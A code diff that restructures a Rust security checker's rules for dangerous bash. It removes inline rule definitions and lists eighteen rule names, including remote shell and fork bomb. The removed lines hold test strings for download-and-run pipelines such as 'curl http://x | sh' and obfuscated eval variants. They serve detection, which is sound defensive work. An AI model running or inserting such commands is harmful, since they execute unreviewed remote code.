@@ -1,130 +1,34 @@
 //! Rules of the dangerous layer for bash.
+//!
+//! What decides a level: code that cannot be read from the script, and what destroys or leaves the
+//! machine, blocks. That a program's or a file's name is computed, or that something cannot work in
+//! the container, warns: ordinary scripts do it, and nothing is lost.
 
-use crate::check::{Layer, Rule};
-use crate::policy::Level;
+mod code;
+mod machine;
 
-pub(in crate::check) static RULES: [&Rule; 3] =
-    [&BASH_EVAL, &BASH_RUN_VARIABLE, &BASH_RUN_DOWNLOAD];
+use crate::check::Rule;
 
-pub(in crate::check) static BASH_EVAL: Rule = Rule {
-    id: "bash-eval",
-    layer: Layer::Dangerous,
-    level: Level::Block,
-    language: Some("bash"),
-    what: "`eval`, however it is quoted or called",
-    why: "it runs text as code, so what the script does cannot be read from the script",
-    catches: &[
-        "eval \"$x\"\n",
-        "ev\"al\" x\n",
-        "\\eval x\n",
-        "'eval' x\n",
-        "$'eval' x\n",
-        "$'\\x65val' x\n",
-        "command eval x\n",
-        "builtin eval x\n",
-        "command -- eval x\n",
-        "A=1 eval x\n",
-        "if true; then eval x; fi\n",
-        "x=$(eval y)\n",
-        "echo \"$(eval y)\"\n",
-        "f() { eval x; }\n",
-        "(eval x) | cat\n",
-        "! eval x\n",
-        "cat <<EOF\n$(eval x)\nEOF\n",
-        "if [ x ]; then eval foo\n",
-        "eval \"x\n",
-        "case $1 in\n  a) eval x\n",
-    ],
-    passes: &[
-        "# eval x\n",
-        "echo eval x\n",
-        "echo 'eval x'\n",
-        "x=eval\n",
-        "cat > f <<'EOF'\neval x\nEOF\n",
-        "my-eval x\n",
-        "./eval x\n",
-        "tool --eval x\n",
-        "evaluate() { :; }; evaluate\n",
-    ],
-    instead: "arrays for arguments (`\"${command[@]}\"`), `declare -n` or `${!name}` for names of variables",
-};
+pub(in crate::check) use code::*;
+pub(in crate::check) use machine::*;
 
-pub(in crate::check) static BASH_RUN_VARIABLE: Rule = Rule {
-    id: "bash-run-variable",
-    layer: Layer::Dangerous,
-    level: Level::Block,
-    language: Some("bash"),
-    what: "a command substitution that runs the value of a variable",
-    why: "which program runs, with which arguments, cannot be read from the script",
-    catches: &[
-        "x=$($cmd)\n",
-        "x=`$cmd`\n",
-        "echo \"$($cmd a b)\"\n",
-        "x=$(\"$cmd\" a)\n",
-        "x=$(${cmd[@]})\n",
-        "x=$(cd /tmp && $cmd)\n",
-        "x=$(echo a | $cmd)\n",
-        "cat <($cmd)\n",
-        "x=$(sudo $cmd)\n",
-    ],
-    passes: &[
-        "x=$(echo $cmd)\n",
-        "x=$(\"$dir/tool\" a)\n",
-        "x=$((cmd + 1))\n",
-        "$cmd a\n",
-        "x=$(cat \"$file\")\n",
-        "x=$(f \"$cmd\")\n",
-        "echo '$($cmd)'\n",
-    ],
-    instead: "name the program: `x=$(program \"$argument\")`, with `case` where there are several",
-};
-
-pub(in crate::check) static BASH_RUN_DOWNLOAD: Rule = Rule {
-    id: "bash-run-download",
-    layer: Layer::Dangerous,
-    level: Level::Block,
-    language: Some("bash"),
-    what: "code that is downloaded and run at once (`curl … | sh` and its relatives)",
-    why: "what runs is not in the script, and the server may send something else each time",
-    catches: &[
-        "curl -s http://x | sh\n",
-        "wget -qO- http://x | bash\n",
-        "curl http://x | sudo bash -s -- -y\n",
-        "curl http://x | /bin/sh\n",
-        "curl http://x | env bash\n",
-        "curl http://x | env A=1 bash\n",
-        "curl http://x | tee log | bash -x\n",
-        "curl http://x | gunzip | python3 -\n",
-        "sudo curl http://x | sudo -u root sh\n",
-        "(curl http://x) | { sh; }\n",
-        "bash <(curl http://x)\n",
-        "source <(curl http://x)\n",
-        ". <(wget -O- http://x)\n",
-        "bash -c \"$(curl http://x)\"\n",
-        "sh -c \"`wget -qO- http://x`\"\n",
-        "bash < <(curl http://x)\n",
-        "sh <<< \"$(curl http://x)\"\n",
-        "\"cu\"rl http://x | s\\h\n",
-        "curl http://x | sh > log 2>&1\n",
-        "if curl http://x | sh; then echo y; fi\n",
-        "curl http://x | python3\n",
-        "curl http://x |& bash\n",
-        "curl http://x | timeout 10 bash\n",
-    ],
-    passes: &[
-        "curl http://x | grep sh\n",
-        "curl http://x | python3 -m json.tool\n",
-        "curl http://x | python3 -c 'import sys'\n",
-        "curl http://x | bash parse.sh\n",
-        "curl http://x | perl -ne 'print'\n",
-        "echo 'curl http://x | sh'\n",
-        "cat > f <<'EOF'\ncurl http://x | sh\nEOF\n",
-        "curl http://x -o f; sh g\n",
-        "x=$(curl http://x)\n",
-        "bash run.sh \"$(curl http://x)\"\n",
-        "diff <(curl http://x) f\n",
-        "sh f | curl -d @- http://x\n",
-        "curl http://x | while read -r line; do echo \"$line\"; done\n",
-    ],
-    instead: "download to a file, compare its checksum, and run what was reviewed",
-};
+pub(in crate::check) static RULES: [&Rule; 18] = [
+    &BASH_EVAL,
+    &BASH_RUN_VARIABLE,
+    &BASH_COMMAND_VARIABLE,
+    &BASH_RUN_TEXT,
+    &BASH_RUN_OUTPUT,
+    &BASH_RUN_DECODED,
+    &BASH_SOURCE,
+    &BASH_RUN_DOWNLOAD,
+    &BASH_REMOVE_ROOT,
+    &BASH_REMOVE_VARIABLE,
+    &BASH_FORK_BOMB,
+    &BASH_REMOTE_SHELL,
+    &BASH_DEVICE,
+    &BASH_PERMISSIONS,
+    &BASH_PRIVILEGE,
+    &BASH_KERNEL,
+    &BASH_SYSTEM_FILE,
+    &BASH_NETWORK,
+];
